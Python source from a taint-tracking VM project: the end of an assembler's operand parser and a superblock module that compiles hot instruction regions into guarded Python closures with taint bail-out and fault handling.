                value = _parse_number(token, lineno) & 0xFFFFFFFF
                image.extend(value.to_bytes(4, "little"))
        elif directive == ".byte":
            for token in _split_operands(arg):
                image.append(_parse_number(token, lineno) & 0xFF)
        elif directive == ".space":
            image.extend(b"\x00" * _parse_number(arg, lineno))
        else:
            raise AssemblyError(f"unknown directive {directive}", lineno)

    # -- pass 2: operand parsing --------------------------------------------

    def _parse_operand(self, token: str, mnemonic: str, line: int) -> Operand:
        token = token.strip()
        if not token:
            raise AssemblyError("empty operand", line)
        if token.startswith("@"):
            return ApiRef(token[1:])
        size = 4
        lowered = token.lower()
        if lowered.startswith("byte "):
            size = 1
            token = token[5:].strip()
            lowered = token.lower()
        if token.startswith("["):
            if not token.endswith("]"):
                raise AssemblyError(f"unterminated memory operand {token!r}", line)
            return self._parse_mem(token[1:-1], size, line)
        if mnemonic == "movb" and size == 4:
            size = 1
        if lowered in REGISTERS:
            return Reg(lowered)
        return self._parse_imm(token, line)

    def _parse_imm(self, token: str, line: int) -> Imm:
        token = token.strip()
        if _NUMBER_RE.match(token) or _CHAR_RE.match(token):
            return Imm(_parse_number(token, line))
        # label or label+offset / label-offset
        m = re.match(r"^([A-Za-z_.$][\w.$]*)\s*([+-]\s*\w+)?$", token)
        if m:
            label = m.group(1)
            if label not in self._labels:
                raise AssemblyError(f"undefined symbol {label!r}", line)
            value = self._labels[label]
            if m.group(2):
                value += _parse_number(m.group(2).replace(" ", ""), line)
            return Imm(value, symbol=token.replace(" ", ""))
        raise AssemblyError(f"cannot parse operand {token!r}", line)

    def _parse_mem(self, inner: str, size: int, line: int) -> Mem:
        base: Optional[str] = None
        index: Optional[str] = None
        scale = 1
        disp = 0
        symbol: Optional[str] = None

        for sign, term in _split_terms(inner, line):
            term = term.strip()
            lowered = term.lower()
            if "*" in term:
                left, _, right = term.partition("*")
                left, right = left.strip().lower(), right.strip()
                if left in REGISTERS:
                    reg_name, factor = left, _parse_number(right, line)
                elif right.lower() in REGISTERS:
                    reg_name, factor = right.lower(), _parse_number(left, line)
                else:
                    raise AssemblyError(f"bad scaled term {term!r}", line)
                if index is not None or sign < 0:
                    raise AssemblyError(f"unsupported addressing {inner!r}", line)
                index, scale = reg_name, factor
            elif lowered in REGISTERS:
                if sign < 0:
                    raise AssemblyError("cannot negate a register in address", line)
                if base is None:
                    base = lowered
                elif index is None:
                    index = lowered
                else:
                    raise AssemblyError(f"too many registers in {inner!r}", line)
            elif _NUMBER_RE.match(term) or _CHAR_RE.match(term):
                disp += sign * _parse_number(term, line)
            else:
                if term not in self._labels:
                    raise AssemblyError(f"undefined symbol {term!r}", line)
                disp += sign * self._labels[term]
                symbol = term
        return Mem(base=base, index=index, scale=scale, disp=disp, size=size, symbol=symbol)


def _split_terms(expr: str, line: int) -> List[Tuple[int, str]]:
    """Split ``a + b - c`` into signed terms."""
    terms: List[Tuple[int, str]] = []
    sign = 1
    current: List[str] = []
    for ch in expr:
        if ch == "+" or ch == "-":
            if current and "".join(current).strip():
                terms.append((sign, "".join(current)))
            sign = 1 if ch == "+" else -1
            current = []
        else:
            current.append(ch)
    if current and "".join(current).strip():
        terms.append((sign, "".join(current)))
    if not terms:
        raise AssemblyError(f"empty address expression", line)
    return terms


def assemble(source: str, name: str = "program") -> Program:
    """Convenience wrapper: assemble ``source`` into a :class:`Program`."""
    return Assembler().assemble(source, name=name)
