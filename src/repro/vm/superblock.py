"""Superblock compilation: one dispatch per hot region, not per instruction.

The predecoded fast path (:mod:`repro.vm.decode`) still pays one Python-level
dispatch — index, tuple load, call — per instruction.  This module removes
that cost for the code that dominates profiling runs: it discovers maximal
straight-line runs and simple back-edge loops in the static program, and
compiles each region — lazily, once it proves hot — into a **single Python
closure** that executes the whole block with one dispatch.  Operand accessors
are resolved at compile time into a chain over local variables (registers and
flags live in locals for the whole block), the ``steps`` budget is charged in
one chunked update per block entry, and loop regions iterate internally until
the back-edge condition fails or the chunked budget runs out.

Unlike the per-instruction fast path, compiled regions also run **under live
taint**, behind guards that keep them exact:

* *Entry guard*: every register the region reads before writing must be
  untainted, else the region refuses to run (``fn`` returns ``False``) and
  the caller falls back to per-instruction execution.
* *Memory guard*: every compiled load goes through
  :meth:`Memory.read_checked`, which raises :class:`~repro.vm.memory.TaintBail`
  on the first tainted byte; the region then commits all architectural state
  it produced so far — in program order — and bails, leaving the bailing
  instruction for the slow path to replay with full taint semantics.
* Every value a guarded region produces is therefore provably untainted, so
  register/flag taint it overwrites is cleared exactly as the slow path
  would (``set_reg(..., EMPTY)``), untainted stores drop stale byte taint via
  ``write_plain``, and no tainted-predicate event can be missed inside a
  region — tainted ``cmp`` operands bail before the compare executes.
* Flags read by a terminal conditional jump need no guard: ``CPU._jump``
  records nothing for tainted flags, and the concrete values are exact.

Fault behaviour is bit-for-bit compatible: state is committed in program
order, a faulting region flushes its locals, charges the steps executed
(including the faulting instruction, like the slow path), and reports the
*faulting instruction's* pc in ``fault_reason``.

A compiled closure returns one of three things: ``False`` (guard refusal —
nothing executed), ``True`` (the region ran; no statically-known successor,
or a mid-region stop), or another :class:`Region` whose entry is exactly
the pc the closure just set — **region chaining**.  Successors are resolved
once at compile time from the region table, so a hot A→B→A cycle costs one
Python call per region instead of a dispatch-loop probe per transition; the
dispatch loops treat a returned Region as a pre-resolved probe and apply
the same warm/guard/futility bookkeeping they would after a table lookup.

The region table is cached on the ``Program`` keyed by the identity of its
instruction list — the same invalidation rule as the decode cache — and is
dropped by pickling, so hotness accumulates across the many short re-runs of
Phase II inside one process but never crosses process or snapshot boundaries.
"""

from __future__ import annotations

import os
from contextlib import contextmanager
from typing import Callable, List, Optional, Sequence, Set, Tuple

from ..taint.labels import EMPTY as _EMPTY
from .isa import Instruction
from .memory import MemoryFault, TaintBail, TEXT_BASE
from .operands import Imm, Mem, Reg
from .program import Program

_M = 0xFFFFFFFF

#: Compile a region once it has been entered this many times.  Hot loops
#: self-heat: every back-edge taken in per-instruction mode re-dispatches at
#: the region entry pc, so a stalling loop crosses any threshold in its first
#: few iterations.
DEFAULT_THRESHOLD = 4

#: Straight-line regions shorter than this are not worth a region dispatch.
MIN_REGION = 2

#: Consecutive futile dispatches before the guarded path gives up on a
#: region (see ``Region.futile``).
FUTILE_LIMIT = 12

_BINOP_MNEMONICS = frozenset(
    ("add", "sub", "xor", "and", "or", "shl", "shr", "imul", "mul")
)
_UNOP_MNEMONICS = frozenset(("inc", "dec", "not", "neg"))

# ---------------------------------------------------------------------------
# enable/disable plumbing (mirrors PipelineConfig.superblock_vm)
# ---------------------------------------------------------------------------

_ENV_DEFAULT = os.environ.get("REPRO_SUPERBLOCKS", "1").lower() not in (
    "0",
    "false",
    "no",
    "off",
)
_override: Optional[bool] = None


def default_enabled() -> bool:
    """Effective default for CPUs built without an explicit choice."""
    return _ENV_DEFAULT if _override is None else _override


@contextmanager
def overridden(enabled: Optional[bool]):
    """Scope the default (used by ``AutoVac.analyze`` so the flag reaches
    every CPU the pipeline builds — fresh runs and snapshot resumes alike —
    without threading a parameter through each call site)."""
    global _override
    if enabled is None:
        yield
        return
    prev = _override
    _override = enabled
    try:
        yield
    finally:
        _override = prev


# ---------------------------------------------------------------------------
# static facts about one instruction
# ---------------------------------------------------------------------------


class _Effects:
    """Read/write sets used for guards, bail tables and flag liveness."""

    __slots__ = ("reads", "writes", "flags_written", "flags_read", "mem")

    def __init__(self, reads, writes, flags_written, flags_read, mem):
        self.reads = reads                # register names read (pre-write)
        self.writes = writes              # register names written
        self.flags_written = flags_written  # subset of {"z", "s", "c"}
        self.flags_read = flags_read      # subset of {"z", "s", "c"}
        self.mem = mem                    # touches memory (can fault/bail)


_JCC_FLAGS = {
    "je": {"z"}, "jz": {"z"}, "jne": {"z"}, "jnz": {"z"},
    "jl": {"s"}, "jge": {"s"}, "js": {"s"}, "jns": {"s"},
    "jle": {"s", "z"}, "jg": {"s", "z"},
    "jb": {"c"}, "jae": {"c"},
    "jbe": {"c", "z"}, "ja": {"c", "z"},
    "jmp": set(),
}


def _mem_regs(op: Mem) -> List[str]:
    regs = []
    if op.base:
        regs.append(op.base)
    if op.index:
        regs.append(op.index)
    return regs


def _effects(instr: Instruction) -> Optional[_Effects]:
    """Static effects, or ``None`` if the instruction cannot be compiled
    into a region body (API calls, call/ret/halt, unsupported shapes)."""
    m = instr.mnemonic
    ops = instr.operands
    reads: List[str] = []
    writes: List[str] = []
    mem = False

    def rd(op) -> bool:
        nonlocal mem
        t = type(op)
        if t is Reg:
            reads.append(op.name)
            return True
        if t is Imm:
            return True
        if t is Mem:
            reads.extend(_mem_regs(op))
            mem = True
            return True
        return False

    def wr(op) -> bool:
        nonlocal mem
        t = type(op)
        if t is Reg:
            writes.append(op.name)
            return True
        if t is Mem:
            reads.extend(_mem_regs(op))
            mem = True
            return True
        return False

    if m == "nop":
        return _Effects((), (), frozenset(), frozenset(), False)
    if m in ("mov", "movb"):
        if rd(ops[1]) and wr(ops[0]):
            return _Effects(tuple(reads), tuple(writes), frozenset(), frozenset(), mem)
        return None
    if m == "lea":
        if type(ops[1]) is not Mem:
            return None
        reads.extend(_mem_regs(ops[1]))
        if wr(ops[0]):
            return _Effects(tuple(reads), tuple(writes), frozenset(), frozenset(), mem)
        return None
    if m == "xchg":
        if rd(ops[0]) and rd(ops[1]) and wr(ops[0]) and wr(ops[1]):
            return _Effects(tuple(reads), tuple(writes), frozenset(), frozenset(), mem)
        return None
    if m == "push":
        if rd(ops[0]):
            reads.append("esp")
            writes.append("esp")
            return _Effects(tuple(reads), tuple(writes), frozenset(), frozenset(), True)
        return None
    if m == "pop":
        reads.append("esp")
        writes.append("esp")
        if wr(ops[0]):
            return _Effects(tuple(reads), tuple(writes), frozenset(), frozenset(), True)
        return None
    if m in _UNOP_MNEMONICS:
        if rd(ops[0]) and wr(ops[0]):
            flags = frozenset() if m == "not" else frozenset("zs")
            return _Effects(tuple(reads), tuple(writes), flags, frozenset(), mem)
        return None
    if m in _BINOP_MNEMONICS:
        if (
            m == "xor"
            and type(ops[0]) is Reg
            and type(ops[1]) is Reg
            and ops[0].name == ops[1].name
        ):
            # xor r, r zeroes unconditionally — the register's prior taint
            # is cleared, not read, so it needs no entry guard.
            return _Effects((), (ops[0].name,), frozenset("zsc"), frozenset(), False)
        if rd(ops[0]) and rd(ops[1]) and wr(ops[0]):
            return _Effects(tuple(reads), tuple(writes), frozenset("zsc"), frozenset(), mem)
        return None
    if m in ("cmp", "test"):
        if rd(ops[0]) and rd(ops[1]):
            return _Effects(tuple(reads), (), frozenset("zsc"), frozenset(), mem)
        return None
    if instr.is_jump:
        # Only legal as a region terminator with an Imm target; flag reads
        # matter for liveness.
        if type(ops[0]) is Imm:
            return _Effects((), (), frozenset(), frozenset(_JCC_FLAGS[m]), False)
        return None
    return None  # call / ret / halt / anything else ends a region


# ---------------------------------------------------------------------------
# region discovery
# ---------------------------------------------------------------------------


class Region:
    """One compilable region: entry index, body, optional Imm terminator."""

    __slots__ = (
        "entry", "body", "terminator", "kind", "count", "fn", "cache", "futile"
    )

    def __init__(self, entry: int, body, terminator, kind: str, cache) -> None:
        self.entry = entry
        self.body = body              # list of Instruction (no terminator)
        self.terminator = terminator  # Imm-target jump Instruction or None
        self.kind = kind              # "line" | "loop"
        self.count = 0
        self.fn = None
        self.cache = cache
        #: Consecutive no-progress dispatches (guard refusals / first-
        #: instruction taint bails).  Past FUTILE_LIMIT the guarded
        #: dispatcher stops attempting this region — a permanently tainted
        #: loop would otherwise pay an exception per entry.  The counter
        #: resets on any productive dispatch, and the untainted fast loop
        #: ignores it (no live taint means the guards cannot fire there).
        self.futile = 0

    @property
    def length(self) -> int:
        return len(self.body) + (1 if self.terminator is not None else 0)

    def warm(self):
        """Count one entry; compile once hot.  Returns the closure or None."""
        self.count += 1
        if self.count >= self.cache.threshold:
            self.fn = _compile_region(self)
            self.cache.compiled += 1
        return self.fn


def _leaders(instructions: Sequence[Instruction], entry_idx: int) -> Set[int]:
    n = len(instructions)
    leaders = {0, entry_idx}
    for i, instr in enumerate(instructions):
        m = instr.mnemonic
        if instr.is_jump or m in ("call", "ret", "halt"):
            if i + 1 < n:
                leaders.add(i + 1)
            ops = instr.operands
            if ops and type(ops[0]) is Imm and (instr.is_jump or m == "call"):
                target = (ops[0].value & _M) - TEXT_BASE
                if 0 <= target < n:
                    leaders.add(target)
    return leaders


def discover_regions(program: Program, cache) -> List[Optional[Region]]:
    """Index-aligned region table: ``table[i]`` is the Region entered at
    instruction ``i``, or ``None``.  Region boundaries: jump targets split
    regions (every Imm target is a leader), instructions without a compiled
    form (API calls, call/ret/halt, Imm destinations…) end them, and a
    conditional or unconditional Imm jump back to the region's own entry
    makes it a loop region."""
    instrs = program.instructions
    n = len(instrs)
    table: List[Optional[Region]] = [None] * n
    entry_idx = (program.entry & _M) - TEXT_BASE
    leaders = _leaders(instrs, entry_idx if 0 <= entry_idx < n else 0)
    for start in sorted(leaders):
        if not 0 <= start < n:
            continue
        body: List[Instruction] = []
        terminator = None
        i = start
        while i < n:
            if i > start and i in leaders:
                break
            instr = instrs[i]
            if instr.is_jump:
                if _effects(instr) is not None:
                    terminator = instr
                break
            if _effects(instr) is None:
                break
            body.append(instr)
            i += 1
        kind = "line"
        if terminator is not None:
            target = (terminator.operands[0].value & _M) - TEXT_BASE
            if target == start and len(body) >= 1:
                kind = "loop"
        region = Region(start, body, terminator, kind, cache)
        if region.length >= MIN_REGION:
            table[start] = region
    return table


# ---------------------------------------------------------------------------
# code generation
# ---------------------------------------------------------------------------


def _ea_expr(op: Mem, R) -> str:
    """Effective-address expression; masking matches ``decode._ea``."""
    base, index, scale, disp = op.base, op.index, op.scale, op.disp
    if base and index:
        idx = R[index] if scale == 1 else f"{R[index]} * {scale}"
        return f"({R[base]} + {idx} + {disp}) & {_M}"
    if base:
        if disp == 0:
            return R[base]
        return f"({R[base]} + {disp}) & {_M}"
    if index:
        idx = R[index] if scale == 1 else f"{R[index]} * {scale}"
        return f"({idx} + {disp}) & {_M}"
    return str(disp & _M)


_COND_EXPR = {
    "je": "{z} == 1", "jz": "{z} == 1",
    "jne": "{z} == 0", "jnz": "{z} == 0",
    "jl": "{s} == 1", "jge": "{s} == 0",
    "js": "{s} == 1", "jns": "{s} == 0",
    "jle": "{s} == 1 or {z} == 1",
    "jg": "{s} == 0 and {z} == 0",
    "jb": "{c} == 1", "jae": "{c} == 0",
    "jbe": "{c} == 1 or {z} == 1",
    "ja": "{c} == 0 and {z} == 0",
}


class _Codegen:
    """Generates the source of one region's closure."""

    def __init__(self, region: Region) -> None:
        self.region = region
        self.seq: List[Instruction] = list(region.body)
        if region.terminator is not None:
            self.seq.append(region.terminator)
        self.effects = [_effects(instr) for instr in self.seq]
        self.entry_pc = TEXT_BASE + region.entry
        self.is_loop = region.kind == "loop"
        self.length = len(self.seq)

        # Register sets.  ``guard``: read before first write (must be
        # untainted at entry).  ``written``: taint cleared at exit.
        self.used: List[str] = []
        self.written: List[str] = []
        guard: List[str] = []
        seen = set()
        written = set()
        for eff in self.effects:
            for r in eff.reads:
                if r not in seen:
                    seen.add(r)
                    self.used.append(r)
                if r not in written and r not in guard:
                    guard.append(r)
            for r in eff.writes:
                if r not in seen:
                    seen.add(r)
                    self.used.append(r)
                if r not in written:
                    written.add(r)
                    self.written.append(r)
        self.guard = guard
        self.R = {r: f"r_{r}" for r in self.used}

        # Bail tables: per instruction index, registers written strictly
        # before it and whether any flag write precedes it.
        self.br_table: List[Tuple[str, ...]] = []
        self.bf_table: List[bool] = []
        before: List[str] = []
        flags_before = False
        for eff in self.effects:
            self.br_table.append(tuple(before))
            self.bf_table.append(flags_before)
            for r in eff.writes:
                if r not in before:
                    before.append(r)
            if eff.flags_written:
                flags_before = True
        self.any_flags = flags_before
        self.any_mem = any(eff.mem for eff in self.effects)

        # Per-flag dead-code elimination: a flag computation is emitted only
        # if some later observer (branch, exit, or a memory access that
        # could bail/fault and flush the locals) can see it.  Exits observe
        # all flags, so one backward pass suffices even for loops.
        live = {"z", "s", "c"}
        csets: List[Set[str]] = [set()] * self.length
        for i in range(self.length - 1, -1, -1):
            eff = self.effects[i]
            csets[i] = eff.flags_written & live
            live = (live - eff.flags_written) | eff.flags_read
            if eff.mem:
                live = {"z", "s", "c"}
        self.csets = csets

        # Static successors for region chaining: when an exit pc is another
        # region's entry, the closure returns that Region object and the
        # dispatch loop jumps straight into it — no table probe per
        # transition.  Resolved at compile time (the region table is fixed
        # at discovery); the successor may still be cold (``fn is None``),
        # in which case the dispatcher falls back to a probe and warms it.
        entries = region.cache.entries
        n_entries = len(entries)

        def _succ(idx: int) -> Optional[Region]:
            if 0 <= idx < n_entries:
                nxt = entries[idx]
                if nxt is not None and nxt is not region:
                    return nxt
            return None

        term = region.terminator
        self.succ_target = (
            _succ((term.operands[0].value & _M) - TEXT_BASE)
            if term is not None and not self.is_loop
            else None
        )
        self.succ_fall = (
            _succ(region.entry + self.length)
            if term is None or term.mnemonic != "jmp"
            else None
        )

        self.lines: List[str] = []

    # -- emit helpers ---------------------------------------------------

    def emit(self, depth: int, stmt: str) -> None:
        self.lines.append("    " * depth + stmt)

    def load(self, op, k: int, tmp: str, depth: int) -> str:
        t = type(op)
        if t is Reg:
            return self.R[op.name]
        if t is Imm:
            return str(op.value & _M)
        self.emit(depth, f"_i = {k}")
        self.emit(depth, f"{tmp} = _rd({_ea_expr(op, self.R)}, {op.size})")
        return tmp

    def store(self, op, k: int, val: str, depth: int) -> None:
        if type(op) is Reg:
            self.emit(depth, f"{self.R[op.name]} = {val}")
        else:
            self.emit(depth, f"_i = {k}")
            self.emit(depth, f"_wr({_ea_expr(op, self.R)}, {val}, {op.size})")

    def flags_zs(self, k: int, res: str, depth: int) -> None:
        cset = self.csets[k]
        if "z" in cset:
            self.emit(depth, f"_fz = 1 if {res} == 0 else 0")
        if "s" in cset:
            self.emit(depth, f"_fs = 1 if {res} & 2147483648 else 0")

    # -- per-instruction body -------------------------------------------

    def gen_instr(self, instr: Instruction, k: int, depth: int) -> None:
        m = instr.mnemonic
        ops = instr.operands
        R = self.R
        cset = self.csets[k]

        if m == "nop":
            return

        if m in ("mov", "movb"):
            dst = ops[0]
            if m == "movb" and type(dst) is Mem and dst.size != 1:
                dst = Mem(dst.base, dst.index, dst.scale, dst.disp, 1, dst.symbol)
            val = self.load(ops[1], k, "_t", depth)
            if m == "movb":
                val = f"{val} & 255" if val == "_t" or type(ops[1]) is Reg else str(
                    int(val) & 255
                )
            self.store(dst, k, val, depth)
            return

        if m == "lea":
            self.store(ops[0], k, _ea_expr(ops[1], R), depth)
            return

        if m == "xchg":
            a = self.load(ops[0], k, "_t", depth)
            b = self.load(ops[1], k, "_u", depth)
            # Same commit order as the slow path: write first operand, then
            # the second (whose address sees the first write).
            if a == b and type(ops[0]) is Reg and type(ops[1]) is Reg:
                return  # xchg r, r: no-op
            if type(ops[0]) is Reg and a != "_t":
                self.emit(depth, f"_t = {a}")
                a = "_t"
            self.store(ops[0], k, b, depth)
            self.store(ops[1], k, a, depth)
            return

        if m == "push":
            val = self.load(ops[0], k, "_t", depth)
            if val != "_t" and not val.isdigit():
                # Source value is read before esp moves (push esp pushes the
                # pre-decrement value), so snapshot register sources.
                self.emit(depth, f"_t = {val}")
                val = "_t"
            self.emit(depth, f"r_esp = (r_esp - 4) & {_M}")
            self.emit(depth, f"_i = {k}")
            self.emit(depth, f"_wr(r_esp, {val}, 4)")
            return

        if m == "pop":
            self.emit(depth, f"_i = {k}")
            self.emit(depth, "_t = _rd(r_esp, 4)")
            self.emit(depth, f"r_esp = (r_esp + 4) & {_M}")
            self.store(ops[0], k, "_t", depth)
            return

        if m in _UNOP_MNEMONICS:
            val = self.load(ops[0], k, "_t", depth)
            expr = {
                "inc": f"({val} + 1) & {_M}",
                "dec": f"({val} - 1) & {_M}",
                "not": f"~{val} & {_M}",
                "neg": f"-{val} & {_M}",
            }[m]
            if type(ops[0]) is Reg:
                res = R[ops[0].name]
                self.emit(depth, f"{res} = {expr}")
            else:
                self.emit(depth, f"_v = {expr}")
                res = "_v"
                self.store(ops[0], k, res, depth)
            if m != "not":
                self.flags_zs(k, res, depth)
            return

        if m in _BINOP_MNEMONICS:
            dst, src = ops
            if (
                m == "xor"
                and type(dst) is Reg
                and type(src) is Reg
                and dst.name == src.name
            ):
                self.emit(depth, f"{R[dst.name]} = 0")
                if "z" in cset:
                    self.emit(depth, "_fz = 1")
                if "s" in cset:
                    self.emit(depth, "_fs = 0")
                if "c" in cset:
                    self.emit(depth, "_fc = 0")
                return
            a = self.load(dst, k, "_t", depth)
            b = self.load(src, k, "_u", depth)
            if m == "add":
                self.emit(depth, f"_w = {a} + {b}")
                if "c" in cset:
                    self.emit(depth, f"_fc = 1 if _w > {_M} else 0")
                expr = f"_w & {_M}"
            elif m == "sub":
                if "c" in cset:
                    self.emit(depth, f"_fc = 1 if {a} < {b} else 0")
                expr = f"({a} - {b}) & {_M}"
            else:
                expr = {
                    "xor": f"{a} ^ {b}",
                    "and": f"{a} & {b}",
                    "or": f"{a} | {b}",
                    "shl": f"({a} << ({b} & 31)) & {_M}",
                    "shr": f"{a} >> ({b} & 31)",
                    "imul": f"({a} * {b}) & {_M}",
                    "mul": f"({a} * {b}) & {_M}",
                }[m]
                if "c" in cset:
                    self.emit(depth, "_fc = 0")
            if type(dst) is Reg:
                res = R[dst.name]
                self.emit(depth, f"{res} = {expr}")
            else:
                self.emit(depth, f"_v = {expr}")
                res = "_v"
                self.store(dst, k, res, depth)
            self.flags_zs(k, res, depth)
            return

        if m in ("cmp", "test"):
            a = self.load(ops[0], k, "_t", depth)
            b = self.load(ops[1], k, "_u", depth)
            if m == "cmp":
                if "c" in cset:
                    self.emit(depth, f"_fc = 1 if {a} < {b} else 0")
                if cset & {"z", "s"}:
                    self.emit(depth, f"_v = ({a} - {b}) & {_M}")
                    self.flags_zs(k, "_v", depth)
            else:
                if "c" in cset:
                    self.emit(depth, "_fc = 0")
                if cset & {"z", "s"}:
                    self.emit(depth, f"_v = {a} & {b}")
                    self.flags_zs(k, "_v", depth)
            return

        raise AssertionError(f"unsupported region instruction {instr}")

    # -- flag / flush fragments -----------------------------------------

    def flag_atom(self, flag: str) -> str:
        if self.any_flags:
            return {"z": "_fz", "s": "_fs", "c": "_fc"}[flag]
        return {"z": "f['zf']", "s": "f['sf']", "c": "f['cf']"}[flag]

    def cond_expr(self, m: str) -> str:
        return _COND_EXPR[m].format(
            z=self.flag_atom("z"), s=self.flag_atom("s"), c=self.flag_atom("c")
        )

    def flush_values(self, depth: int) -> None:
        regs = self.R
        if regs:
            self.emit(
                depth,
                "; ".join(f"regs['{r}'] = {local}" for r, local in regs.items()),
            )
        if self.any_flags:
            self.emit(depth, "f['zf'] = _fz; f['sf'] = _fs; f['cf'] = _fc")

    def flush_exit_taint(self, depth: int) -> None:
        if self.written:
            self.emit(
                depth, "; ".join(f"rt['{r}'] = _E" for r in self.written)
            )
        if self.any_flags:
            self.emit(depth, "cpu.flag_taint = _E")

    def flush_bail_taint(self, depth: int) -> None:
        """Clears for a mid-region stop at body index ``_i``: only state the
        executed prefix actually wrote.  ``_st`` (completed loop iterations)
        implies the whole body ran at least once."""
        if self.is_loop:
            self.emit(depth, "if _st:")
            inner = depth + 1
            if self.written:
                self.emit(
                    inner, "; ".join(f"rt['{r}'] = _E" for r in self.written)
                )
            if self.any_flags:
                self.emit(inner, "cpu.flag_taint = _E")
            if not self.written and not self.any_flags:
                self.emit(inner, "pass")
            self.emit(depth, "else:")
            self.emit(depth + 1, "for _r in _BR[_i]: rt[_r] = _E")
            if self.any_flags:
                self.emit(depth + 1, "if _BF[_i]: cpu.flag_taint = _E")
        else:
            self.emit(depth, "for _r in _BR[_i]: rt[_r] = _E")
            if self.any_flags:
                self.emit(depth, "if _BF[_i]: cpu.flag_taint = _E")

    # -- whole-region assembly ------------------------------------------

    def generate(self) -> str:
        L = self.length
        entry_pc = self.entry_pc
        fall_pc = entry_pc + L
        term = self.region.terminator
        steps_expr = "_st + _i" if self.is_loop else "_i"

        params = "cpu, _E=_E, _BR=_BR, _BF=_BF, _FAULT=_FAULT"
        if self.succ_target is not None:
            params += ", _NT=_NT"
        if self.succ_fall is not None:
            params += ", _NF=_NF"
        self.emit(0, f"def _sb({params}):")
        self.emit(1, "rt = cpu.reg_taint")
        if self.guard:
            cond = " or ".join(f"rt['{r}']" for r in self.guard)
            self.emit(1, f"if {cond}: return False")
        self.emit(1, f"_bud = cpu.max_steps - cpu.steps")
        self.emit(1, f"if _bud < {L}: return False")
        self.emit(1, "regs = cpu.regs")
        if self.any_mem:
            self.emit(1, "mem = cpu.memory")
            self.emit(1, "_rd = mem.read_checked")
            self.emit(1, "_wr = mem.write_plain")
        if self.any_flags or (term is not None and term.mnemonic != "jmp"):
            self.emit(1, "f = cpu.flags")
        if self.R:
            self.emit(
                1,
                "; ".join(f"{local} = regs['{r}']" for r, local in self.R.items()),
            )
        if self.any_flags:
            self.emit(1, "_fz = f['zf']; _fs = f['sf']; _fc = f['cf']")
        self.emit(1, "_i = 0")
        if self.is_loop:
            self.emit(1, "_st = 0")
        self.emit(1, "try:")

        if self.is_loop:
            self.emit(2, "while True:")
            body_depth = 3
        else:
            body_depth = 2

        emitted_any = False
        for k, instr in enumerate(self.seq):
            if instr is term:
                break
            mark = len(self.lines)
            self.gen_instr(instr, k, body_depth)
            emitted_any = emitted_any or len(self.lines) > mark

        exit_ret = "True"
        if self.is_loop:
            self.emit(body_depth, f"_st += {L}")
            if term.mnemonic == "jmp":
                self.emit(body_depth, f"if _bud - _st >= {L}: continue")
                self.emit(body_depth, f"cpu.pc = {entry_pc}")
                self.emit(body_depth, "break")
            elif self.succ_fall is None:
                self.emit(body_depth, f"if {self.cond_expr(term.mnemonic)}:")
                self.emit(body_depth + 1, f"if _bud - _st >= {L}: continue")
                self.emit(body_depth + 1, f"cpu.pc = {entry_pc}")
                self.emit(body_depth + 1, "break")
                self.emit(body_depth, f"cpu.pc = {fall_pc}")
                self.emit(body_depth, "break")
            else:
                self.emit(body_depth, f"if {self.cond_expr(term.mnemonic)}:")
                self.emit(body_depth + 1, f"if _bud - _st >= {L}: continue")
                # Budget re-entry never chains back into itself: the
                # dispatch loop owns the budget-exhaustion status.
                self.emit(body_depth + 1, f"cpu.pc = {entry_pc}")
                self.emit(body_depth + 1, "_nx = True")
                self.emit(body_depth + 1, "break")
                self.emit(body_depth, f"cpu.pc = {fall_pc}")
                self.emit(body_depth, "_nx = _NF")
                self.emit(body_depth, "break")
                exit_ret = "_nx"
        else:
            if term is None:
                if not emitted_any:
                    self.emit(body_depth, "pass")
                self.emit(body_depth, f"cpu.pc = {fall_pc}")
                if self.succ_fall is not None:
                    exit_ret = "_NF"
            elif term.mnemonic == "jmp":
                target = term.operands[0].value & _M
                self.emit(body_depth, f"cpu.pc = {target}")
                if self.succ_target is not None:
                    exit_ret = "_NT"
            else:
                target = term.operands[0].value & _M
                if self.succ_target is None and self.succ_fall is None:
                    self.emit(
                        body_depth,
                        f"cpu.pc = {target} if {self.cond_expr(term.mnemonic)} else {fall_pc}",
                    )
                else:
                    self.emit(body_depth, f"if {self.cond_expr(term.mnemonic)}:")
                    self.emit(body_depth + 1, f"cpu.pc = {target}")
                    self.emit(
                        body_depth + 1,
                        "_nx = _NT" if self.succ_target is not None else "_nx = True",
                    )
                    self.emit(body_depth, "else:")
                    self.emit(body_depth + 1, f"cpu.pc = {fall_pc}")
                    self.emit(
                        body_depth + 1,
                        "_nx = _NF" if self.succ_fall is not None else "_nx = True",
                    )
                    exit_ret = "_nx"

        # Taint bail: commit the executed prefix, leave instruction _i for
        # the slow path.  No progress (first instruction, no completed
        # iteration) must return False or the dispatch loop would spin.
        self.emit(1, "except _TB:")
        self.flush_values(2)
        self.flush_bail_taint(2)
        self.emit(2, f"cpu.pc = {entry_pc} + _i")
        self.emit(2, f"cpu.steps += {steps_expr}")
        self.emit(2, f"return ({steps_expr}) != 0")
        # Fault: like the slow path, the faulting instruction's step is
        # charged and pc has advanced past it; fault_reason names the
        # faulting pc (not the advanced one).
        self.emit(1, "except _MF as _e:")
        self.flush_values(2)
        self.flush_bail_taint(2)
        self.emit(2, f"cpu.steps += {steps_expr} + 1")
        self.emit(2, f"cpu.pc = {entry_pc} + _i + 1")
        self.emit(2, "cpu.status = _FAULT")
        self.emit(2, f"cpu.fault_reason = '%s (pc 0x%08x)' % (_e, {entry_pc} + _i)")
        self.emit(2, "return True")

        self.flush_values(1)
        self.flush_exit_taint(1)
        self.emit(1, f"cpu.steps += {'_st' if self.is_loop else str(L)}")
        self.emit(1, f"return {exit_ret}")
        return "\n".join(self.lines) + "\n"


def _compile_region(region: Region) -> Callable:
    from .cpu import ExitStatus  # local import: cpu imports this module

    gen = _Codegen(region)
    source = gen.generate()
    namespace = {
        "_E": _EMPTY,
        "_BR": tuple(gen.br_table),
        "_BF": tuple(gen.bf_table),
        "_FAULT": ExitStatus.FAULT,
        "_TB": TaintBail,
        "_MF": MemoryFault,
        "_NT": gen.succ_target,
        "_NF": gen.succ_fall,
    }
    code = compile(
        source, f"<superblock 0x{gen.entry_pc:08x} {region.kind}>", "exec"
    )
    exec(code, namespace)
    fn = namespace["_sb"]
    fn.__source__ = source  # debuggability: repr of what actually runs
    return fn


# ---------------------------------------------------------------------------
# per-program cache
# ---------------------------------------------------------------------------


class SuperblockCache:
    """Region table + hotness state for one program.

    Cached on the ``Program`` keyed by the identity of its instruction list
    (the decode-cache rule): a swapped-out listing re-discovers, pickling
    drops it (``Program.__getstate__``), and hotness counts accumulate
    across the many short re-runs Phase II performs in one process."""

    __slots__ = ("instructions", "entries", "threshold", "compiled")

